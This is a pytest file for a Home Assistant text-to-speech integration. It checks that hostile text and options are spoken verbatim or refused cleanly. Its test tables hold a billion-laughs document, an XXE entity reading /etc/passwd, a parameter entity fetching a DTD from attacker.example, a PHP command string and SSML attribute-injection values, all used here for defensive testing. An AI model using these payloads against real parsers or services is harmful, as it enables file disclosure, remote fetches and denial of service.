"""Hostile input: every message and option ends in correct audio or a clear error.

Each case goes through Home Assistant's TTS machinery to our entity and the
emulator, which parses the SSML we send and records the text it was asked to
speak. A case ends one of two ways:

* Spoken: every synthesis request was answered 200 (our SSML never earns a
  400), the audio is exactly what the service sent, and the text the service
  was asked to speak is the message itself. "Itself" is compared in a form
  both sides share: the characters XML 1.0 cannot carry (C0 controls but tab,
  line feed and carriage return; lone surrogates; U+FFFE, U+FFFF) are removed,
  since no SSML document can hold them; and whitespace is removed, since the
  sentence pipeline strips each sentence and rejoins batches with its own
  spacing (none after CJK punctuation). Every other character must arrive, in
  order, exactly once. Where sentence_stream removes markdown asterisks the
  case spells out the expected text.
* Refused: a ServiceValidationError of ours, translated and naming the
  problem, or Home Assistant's own HomeAssistantError for what it checks
  before our entity (unknown option names, unsupported languages), and
  nothing at all sent to the service. A document with a DOCTYPE or entity
  declarations is refused before any XML parser sees it (ElementTree is
  watched), so nothing is expanded or fetched.

Never a traceback: no warning or error is logged with one, and the event loop
is never blocked for long (a watchdog interrupts code that holds it > 1 s).
"""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterator
from dataclasses import dataclass, field
import math
from typing import Any
from unittest.mock import patch
from xml.etree import ElementTree

from homeassistant.core import HomeAssistant
from homeassistant.exceptions import HomeAssistantError, ServiceValidationError
import pytest

from tests.emulator import Emulator, RecordedRequest

from .test_faults import (
    LoopWatch,
    assert_complete_mp3,
    assert_translated,
    crashes,
)
from .tts_calls import speak, stream, text_stream

SSML_OPEN = (
    '<speak version="1.0" xmlns="http://www.w3.org/2001/10/synthesis" '
    'xml:lang="zh-CN"><voice name="zh-cn-YunxiNeural">'
)
SSML_CLOSE = "</voice></speak>"
ONE_MIB = 1024 * 1024
SENTENCE = "The quick brown fox jumps over the lazy dog. "
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">\n'
        for n in range(1, 10)
    )
    + "]>\n"
    + SSML_OPEN
    + "&lol9;"
    + SSML_CLOSE
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE speak [<!ENTITY xxe SYSTEM '
    '"file:///etc/passwd">]>' + SSML_OPEN + "&xxe;" + SSML_CLOSE
)
PARAMETER_ENTITY = (
    '<!DOCTYPE speak [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">'
    "%remote;]>" + SSML_OPEN + "hi" + SSML_CLOSE
)


def is_xml_char(character: str) -> bool:
    """XML 1.0's Char production: what an SSML document can carry at all."""
    code = ord(character)
    return (
        code in (0x9, 0xA, 0xD)
        or 0x20 <= code <= 0xD7FF
        or 0xE000 <= code <= 0xFFFD
        or 0x10000 <= code <= 0x10FFFF
    )


def comparable(text: str) -> str:
    """The form in which message and spoken text are compared (see above)."""
    return "".join(c for c in text if is_xml_char(c) and not c.isspace())


@dataclass(frozen=True)
class Spoken:
    """The message is spoken verbatim (see `comparable`)."""

    message: str
    options: dict[str, Any] = field(default_factory=dict)
    # What the service must be asked to say, when not the message itself.
    expected: str | None = None
    # How it arrives: "speak" (one message, as tts.speak sends it) and/or
    # "stream" (LLM-sized deltas, markup split anywhere).
    via: tuple[str, ...] = ("speak",)
    # Checks on the SSML sent, beyond the text.
    ssml_contains: tuple[str, ...] = ()


@dataclass(frozen=True)
class Refused:
    """The call is refused with a clear error and nothing is sent."""

    message: str
    options: dict[str, Any] = field(default_factory=dict)
    translation_key: str | None = None  # ours; None for Home Assistant's own check
    ha_message: str = ""  # the start of Home Assistant's own message
    language: str | None = None
    via: tuple[str, ...] = ("speak",)


type Case = Spoken | Refused


# Refused as invalid SSML before any XML parser saw the document.
UNPARSED_SSML = "invalid_ssml (unparsed)"


def ssml(body: str) -> str:
    return SSML_OPEN + body + SSML_CLOSE


MESSAGES: dict[str, Case] = {
    # XML metacharacters and markup-looking text are read, never interpreted.
    "xml_metacharacters": Spoken(
        "Tom & Jerry <3 \"quotes\" 'apostrophes' a > b.", via=("speak", "stream")
    ),
    "cdata_end": Spoken(
        "The sequence ]]> ends a CDATA section.", via=("speak", "stream")
    ),
    "cdata_section": Spoken("Say <![CDATA[<raw>]]> aloud."),
    "comment_inside": Spoken("Before <!-- not a comment --> after."),
    "processing_instruction": Spoken("<?php system('id'); ?> is only text."),
    "closing_tags_first": Spoken("</voice></speak><speak>Injected</speak>"),
    "attribute_breakout": Spoken(
        '" /><break time="10s"/><voice name="x">', via=("speak", "stream")
    ),
    "entity_references": Spoken("&amp; &lt; &#x41; &#0; &unknown; & alone."),
    "speak_later_in_text": Spoken('Read this: <speak version="1.0">no SSML</speak>'),
    # A message is SSML only when its first element is speak.
    "heart": Spoken("<3 you", via=("speak", "stream")),
    "double_angle_brackets": Spoken(
        "<<Important>> the door is open", via=("speak", "stream")
    ),
    "cdata_first": Spoken("<![CDATA[ raw ]]> text", via=("speak", "stream")),
    "declaration_then_text": Spoken('<?xml version="1.0"?> Hello'),
    "declaration_then_other_root": Spoken(
        '<?xml version="1.0"?><voice name="x">hi</voice>'
    ),
    "comment_first": Spoken("<!-- note --> hello", via=("speak", "stream")),
    # A byte order mark first: not sniffed as markup, so read as text; nothing
    # is declared or expanded.
    "bom_then_doctype": Spoken("\ufeff<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"),
    # A user's SSML document goes out as written.
    "ssml_document": Spoken(
        ssml('Hello <break time="100ms"/>there.'),
        expected="Hello there.",
        ssml_contains=(ssml('Hello <break time="100ms"/>there.'),),
        via=("speak", "stream"),
    ),
    # Documents that declare anything are refused before anything parses them.
    "billion_laughs": Refused(BILLION_LAUGHS, translation_key=UNPARSED_SSML),
    "external_entity": Refused(EXTERNAL_ENTITY, translation_key=UNPARSED_SSML),
    "parameter_entity": Refused(PARAMETER_ENTITY, translation_key=UNPARSED_SSML),
    "doctype_inside_speak": Refused(
        SSML_OPEN[:-1] + "<!DOCTYPE speak>" + SSML_CLOSE, translation_key=UNPARSED_SSML
    ),
    "lowercase_doctype": Refused(
        "<!doctype speak>" + ssml("hi"), translation_key=UNPARSED_SSML
    ),
    "undeclared_entity": Refused(ssml("&xxe;"), translation_key="invalid_ssml"),
    "malformed_ssml": Refused("<speak><voice>unclosed", translation_key="invalid_ssml"),
    "control_character_in_ssml": Refused(
        ssml("bell\x07"), translation_key="invalid_ssml"
    ),
    "fifty_one_voices": Refused(
        '<speak version="1.0" xmlns="http://www.w3.org/2001/10/synthesis" '
        'xml:lang="en-US">'
        + '<voice name="en-US-JennyNeural">hi</voice>' * 51
        + "</speak>",
        translation_key="invalid_ssml",
    ),
    # Characters.
    "control_characters": Spoken(
        "Bell\x07 nul\x00 esc\x1b[31m red\x7f del\x85 nel\x9f."
    ),
    "line_endings_and_tabs": Spoken("Line one\r\nLine two\rLine three\tTabbed."),
    "noncharacters": Spoken("A\ufffeB\uffffC and \U0001fffe astral."),
    "lone_surrogates": Spoken(
        "High \ud800 low \udc00 pair \ud83d end.", via=("speak", "stream")
    ),
    "zero_width": Spoken("zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffjoiner."),
    "rtl_text": Spoken(
        "Price \u202e001$\u202c then \u200fمرحبا بالعالم and שלום עולם."
    ),
    "emoji": Spoken("Good morning ☀️ 👨‍👩‍👧‍👦 🏳️‍🌈 🇨🇳 and 🤖!", via=("speak", "stream")),
    "astral_and_combining": Spoken("𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𠀀 Z̷̢͉a̶l̵g̸o̴ text."),
    "mixed_cjk_latin": Spoken(
        "你好，Home Assistant！今天是2026年。Hello 世界。OK.", via=("speak", "stream")
    ),
    "unicode_whitespace": Spoken("nb\u00a0sp em\u2003sp ideo\u3000graphic\u2028sep."),
    "markdown_asterisks": Spoken(
        "**Warning:** the *oven* is on.",
        expected="Warning: the oven is on.",
        via=("speak", "stream"),
    ),
    # Sizes.
    "whitespace_only": Refused(" \t\n\u3000\u2028 ", translation_key="empty_message"),
    "long_whitespace_only": Refused(
        " " * 5_000 + "\n" * 5_000,
        translation_key="empty_message",
        via=("speak", "stream"),
    ),
    "empty": Refused("", translation_key="empty_message"),
    "only_forbidden_characters": Refused(
        "\x00\x01\x02\ud800", translation_key="empty_message"
    ),
    "single_20000_character_word": Spoken("x" * 20_000),
    "long_cjk_without_punctuation": Spoken("字" * 5_000),
    "one_mib_of_words": Spoken(("word " * ONE_MIB)[:ONE_MIB]),
    "long_text_without_sentence_end": Spoken("word " * 14_000, via=("stream",)),
    "one_mib_of_sentences": Spoken((SENTENCE * ONE_MIB)[:ONE_MIB]),
}

HELLO = "Hello there."
INJECTION = '+10%\\" onload=\\"'

OPTIONS: dict[str, Case] = {
    "unknown_voice": Refused(
        HELLO, {"voice": "xx-XX-NobodyNeural"}, translation_key="invalid_voice"
    ),
    "voice_injection": Refused(
        HELLO, {"voice": 'zh-cn-YunxiNeural"><break/>'}, translation_key="invalid_voice"
    ),
    "style_not_offered": Refused(
        HELLO, {"style": "whispering"}, translation_key="invalid_style"
    ),
    "style_injection": Refused(
        HELLO, {"style": 'cheerful" role="Boy'}, translation_key="invalid_style"
    ),
    "role_not_offered": Refused(
        HELLO, {"style": "cheerful", "role": "Girl"}, translation_key="invalid_role"
    ),
    "role_without_style": Refused(
        HELLO, {"role": "Boy"}, translation_key="role_without_style"
    ),
    "style_degree_0": Refused(
        HELLO,
        {"style": "cheerful", "style_degree": 0},
        translation_key="invalid_style_degree",
    ),
    "style_degree_3": Refused(
        HELLO,
        {"style": "cheerful", "style_degree": 3},
        translation_key="invalid_style_degree",
    ),
    "style_degree_nan": Refused(
        HELLO,
        {"style": "cheerful", "style_degree": math.nan},
        translation_key="invalid_style_degree",
    ),
    "style_degree_text": Refused(
        HELLO,
        {"style": "cheerful", "style_degree": "1; <x>"},
        translation_key="invalid_style_degree",
    ),
    "style_degree_limits": Spoken(
        HELLO,
        {"style": "Cheerful", "style_degree": 0.01, "role": "boy"},
        ssml_contains=('style="cheerful"', 'styledegree="0.01"', 'role="Boy"'),
    ),
    "style_degree_upper_limit": Spoken(
        HELLO,
        {"style": "cheerful", "style_degree": 2},
        ssml_contains=('styledegree="2"',),
    ),
    "rate_too_fast": Refused(HELLO, {"rate": "+101%"}, translation_key="invalid_rate"),
    "rate_too_slow": Refused(HELLO, {"rate": "-51%"}, translation_key="invalid_rate"),
    "rate_multiplier_too_big": Refused(
        HELLO, {"rate": "2.5"}, translation_key="invalid_rate"
    ),
    "rate_injection": Refused(
        HELLO, {"rate": INJECTION}, translation_key="invalid_rate"
    ),
    "pitch_injection": Refused(
        HELLO, {"pitch": INJECTION}, translation_key="invalid_pitch"
    ),
    "pitch_out_of_range": Refused(
        HELLO, {"pitch": "+13st"}, translation_key="invalid_pitch"
    ),
    "volume_markup_injection": Refused(
        HELLO,
        {"volume": '+10%"/><break time="5s"/><prosody volume="'},
        translation_key="invalid_volume",
    ),
    "volume_out_of_range": Refused(
        HELLO, {"volume": 101}, translation_key="invalid_volume"
    ),
    "prosody_limits": Spoken(
        HELLO,
        {"rate": "+100%", "pitch": "-50%", "volume": "silent"},
        ssml_contains=('rate="+100%"', 'pitch="-50%"', 'volume="silent"'),
    ),
    "voice_of_wrong_type": Refused(
        HELLO, {"voice": 42}, translation_key="invalid_option"
    ),
    "voice_as_a_list": Refused(
        HELLO, {"voice": ["zh-cn-YunxiNeural"]}, translation_key="invalid_option"
    ),
    "style_of_wrong_type": Refused(
        HELLO, {"style": 1}, translation_key="invalid_option"
    ),
    "role_as_a_mapping": Refused(
        HELLO,
        {"style": "cheerful", "role": {"name": "Boy"}},
        translation_key="invalid_option",
    ),
    "rate_as_a_boolean": Refused(HELLO, {"rate": True}, translation_key="invalid_rate"),
    "pitch_as_a_list": Refused(HELLO, {"pitch": []}, translation_key="invalid_pitch"),
    "empty_and_null_options": Spoken(HELLO, {"voice": None, "style": "", "rate": None}),
    "unknown_option_name": Refused(
        HELLO, {"speed": 2}, ha_message="Invalid options found"
    ),
    "unsupported_language": Refused(
        HELLO, language="xx-XX", ha_message="Language 'xx-XX' not supported"
    ),
    "language_injection": Refused(
        HELLO, language='zh-CN" onload="', ha_message="Language"
    ),
}


def cases() -> list[Any]:
    params = []
    for table in (MESSAGES, OPTIONS):
        for name, case in table.items():
            for via in case.via:
                case_id = name if via == "speak" else f"{name}-streamed"
                params.append(pytest.param(case, via, id=case_id))
    return params


def tile(expected: str, requests: list[RecordedRequest]) -> list[RecordedRequest]:
    """Order `requests` so that their texts make up `expected` exactly, or fail.

    Requests travel on separate connections and can arrive out of order; the
    audio is played in the order the texts make up the message. A depth-first
    search, since in a repetitive message a piece can fit in the wrong place.
    """
    whole = comparable(expected)
    by_text: dict[str, list[RecordedRequest]] = defaultdict(list)
    for request in requests:
        by_text[comparable(request.spoken_text or "")].append(request)
    assert "" not in by_text, "a request had nothing to say"
    left = {text: len(same) for text, same in by_text.items()}

    def fitting(position: int) -> Iterator[str]:
        found = [t for t, n in left.items() if n and whole.startswith(t, position)]
        return iter(sorted(found, key=len, reverse=True))

    order: list[str] = []
    position = 0
    choices = [fitting(0)]
    while position < len(whole) or any(left.values()):
        text = next(choices[-1], None) if choices else None
        if text is None:
            assert order, f"the requests do not make up the message {whole[:60]!r}"
            choices.pop()
            last = order.pop()
            left[last] += 1
            position -= len(last)
            continue
        left[text] -= 1
        order.append(text)
        position += len(text)
        choices.append(fitting(position))
    return [by_text[text].pop() for text in order]


async def say(
    hass: HomeAssistant, message: str, options: dict[str, Any], via: str, **kwargs: Any
) -> bytes:
    if via == "speak":
        extension, audio = await speak(hass, message, options=options, **kwargs)
        assert extension == "mp3"
        return audio
    # An LLM's deltas: a few characters at a time, markup split anywhere.
    deltas = [message[i : i + 7] for i in range(0, len(message), 7)] or [""]
    return await stream(hass, text_stream(*deltas), options=options, **kwargs)


@pytest.mark.usefixtures("init_integration")
@pytest.mark.parametrize(("case", "via"), cases())
async def test_hostile_input_is_spoken_verbatim_or_refused_clearly(
    hass: HomeAssistant,
    emulator: Emulator,
    caplog: pytest.LogCaptureFixture,
    *,
    record_property: Any,
    case: Case,
    via: str,
) -> None:
    # Short audio per character: the megabyte cases stay small.
    emulator.ms_per_character = 0.01 if len(case.message) > 100_000 else 1.0
    emulator.reset_requests()
    language = case.language if isinstance(case, Refused) else None
    kwargs = {"language": language} if language else {}

    parsed: list[Any] = []
    parse = ElementTree.fromstring

    def parse_and_tell(*args: Any, **kwargs: Any) -> Any:
        parsed.append(args)
        return parse(*args, **kwargs)

    async with LoopWatch(abort_after=1.0) as watch:
        if isinstance(case, Spoken):
            audio = await say(hass, case.message, case.options, via, **kwargs)
        else:
            error_type = ServiceValidationError if case.translation_key else None
            with (
                patch.object(ElementTree, "fromstring", parse_and_tell),
                pytest.raises(HomeAssistantError) as err,
            ):
                await say(hass, case.message, case.options, via, **kwargs)

    record_property("longest_stall", round(watch.longest_stall, 3))
    assert watch.longest_stall < 0.5
    assert not crashes(caplog)
    if isinstance(case, Refused):
        if case.translation_key == UNPARSED_SSML:
            assert type(err.value) is ServiceValidationError
            assert_translated(err.value, "invalid_ssml")
            assert "document type or entity declaration" in str(err.value)
            assert parsed == []
        elif case.translation_key:
            assert type(err.value) is error_type
            assert_translated(err.value, case.translation_key)
        else:
            assert type(err.value) is HomeAssistantError
            assert str(err.value).startswith(case.ha_message)
        assert emulator.requests == []
        return

    requests = emulator.requests_for("synthesis")
    assert requests
    assert [request.status for request in requests] == [200] * len(requests)
    assert all(request.synthesized for request in requests)
    ordered = tile(
        case.expected if case.expected is not None else case.message, requests
    )
    assert_complete_mp3(audio, b"".join(r.response_body for r in ordered))
    sent = "".join(request.body.decode() for request in requests)
    for fragment in case.ssml_contains:
        assert fragment in sent


def test_the_table_is_large_enough() -> None:
    assert len(MESSAGES) + len(OPTIONS) >= 40
